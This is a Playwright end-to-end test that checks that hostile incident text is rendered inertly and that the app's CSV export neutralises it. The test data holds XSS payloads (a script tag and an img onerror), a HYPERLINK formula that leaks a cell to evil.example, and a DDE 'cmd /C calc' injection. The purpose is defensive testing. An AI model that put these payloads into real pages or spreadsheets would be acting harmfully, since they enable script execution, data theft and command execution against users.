// Hostile incident text end to end: an incident whose target and summary hold markup,
// spreadsheet formulas and quotes is imported with `db:import`, then shown by a server of
// its own. The page renders the text literally (no script runs, no dialog opens, no element
// is created from it) and the CSV download carries it neutralised.
//
// Its own database and server: the shared e2e database must keep exactly seed/data, whose
// figures other specs check. The import runs before the server starts, because the server
// holds the embedded database's lock while it runs.
import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import { join, resolve } from "node:path";
import { expect, test } from "@playwright/test";
// The import reads the export's columns (incident-export.ts is server-only, so not imported here).
import { REQUIRED_COLUMNS as INCIDENT_CSV_HEADER } from "../lib/records/import-rows.ts";
import { CSV_HEADER } from "../lib/incident-model.ts";
import { csvDocument } from "../lib/csv.ts";
import { parseCsv } from "../lib/csv-parse.ts";
import { LEAKS, migrateAndSeed, run, startServer, type OwnServer } from "./own-server.ts";

const PORT = 3510;
const DIR = resolve(`.data/e2e-injection-${process.pid}`);
const ID = "2025-04-01-karachi-injection-test";
const SCRIPT = `<script>window.__pwned = true; alert("xss")</script>`;
const TARGET = `=HYPERLINK("http://evil.example/?leak="&A1,"Click") ${SCRIPT}`;
const SUMMARY = `+cmd|' /C calc'!A0 and @SUM(1+1); <img src=x onerror="window.__pwned=true"> "quoted", with comma; <b>not bold</b>`;

let server: OwnServer | undefined;

test.beforeAll(async () => {
  test.setTimeout(180_000);
  rmSync(DIR, { recursive: true, force: true });
  mkdirSync(DIR, { recursive: true });
  const env = { PGLITE_DIR: DIR, DATABASE_URL: "" };
  await migrateAndSeed(env);
  const row = {
    id: ID, date: "2025-04-01", date_precision: "day", province: "sindh", district: null, city: "Karachi", attack_type: "targeted_shooting",
    target: TARGET, project: null, perpetrators: "bla", attribution: "bla:claimed", chinese_killed: 0, chinese_injured: 1, total_killed: 0,
    total_injured: 1, attackers_killed: null, summary: SUMMARY, source_urls: "https://example.org/injection-test",
  } as const;
  const file = join(DIR, "..", `injection-${process.pid}.csv`);
  writeFileSync(file, csvDocument(INCIDENT_CSV_HEADER, [INCIDENT_CSV_HEADER.map((c) => row[c])]));
  const imported = await run(["seed/import.ts", file], env);
  rmSync(file);
  expect(imported.code, imported.stderr).toBe(0);
  expect(imported.stdout).toMatch(/1 created/);
  server = await startServer(PORT, env);
});

test.afterAll(async () => {
  await server?.stop();
  rmSync(DIR, { recursive: true, force: true });
});

test("hostile incident text is rendered as text and never executed", async ({ page }) => {
  test.setTimeout(60_000);
  const dialogs: string[] = [];
  page.on("dialog", (d) => { dialogs.push(d.message()); void d.dismiss(); });
  const response = await page.goto(`${server!.url}/incidents/${ID}`);
  expect(response!.status()).toBe(200);

  // The text, markup and all, is on the page as characters.
  await expect(page.getByText(SCRIPT, { exact: false }).first()).toBeVisible();
  await expect(page.getByText(`<img src=x onerror="window.__pwned=true">`, { exact: false }).first()).toBeVisible();
  await expect(page.getByText("<b>not bold</b>", { exact: false }).first()).toBeVisible();
  // ... and no element was made from it.
  // (Next's own data scripts carry the text as a JSON string; a script made from the text would start with it.)
  expect(await page.locator("script").evaluateAll((els) => els.filter((e) => e.textContent?.trim().startsWith("window.__pwned")).length)).toBe(0);
  expect(await page.locator("img[src='x'], b:text('not bold')").count()).toBe(0);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: boolean }).__pwned)).toBeUndefined();
  // The server-rendered HTML holds the markup escaped.
  const html = await (await page.request.get(`${server!.url}/incidents/${ID}`)).text();
  expect(html).not.toContain(SCRIPT);
  expect(html).toContain("&lt;script&gt;");

  // The incident list too.
  await page.goto(`${server!.url}/incidents?q=injection`);
  await expect(page.locator(`a[href="/incidents/${ID}"]`).first()).toBeVisible();
  expect(await page.evaluate(() => (window as unknown as { __pwned?: boolean }).__pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
});

test("the CSV download carries hostile text neutralised", async ({ request }) => {
  const res = await request.get(`${server!.url}/api/incidents.csv?province=sindh&from=2025-04-01&to=2025-04-01`);
  expect(res.status()).toBe(200);
  const text = await res.text();
  const records = parseCsv(text).map((r) => r.fields);
  expect(records.every((r) => r.length === CSV_HEADER.length)).toBe(true);
  const row = records.find((r) => r[0] === ID)!;
  const cell = (name: (typeof INCIDENT_CSV_HEADER)[number]) => row[INCIDENT_CSV_HEADER.indexOf(name)];
  expect(cell("target")).toBe(`'${TARGET}`);
  expect(cell("summary")).toBe(`'${SUMMARY}`);
  for (const r of records) for (const c of r) expect(c).not.toMatch(/^[=+\-@\t\r]/);
  // On the wire: the guarded, quoted field, its quotes doubled.
  expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"") <script>`);
  expect(LEAKS.test(text)).toBe(false);
});
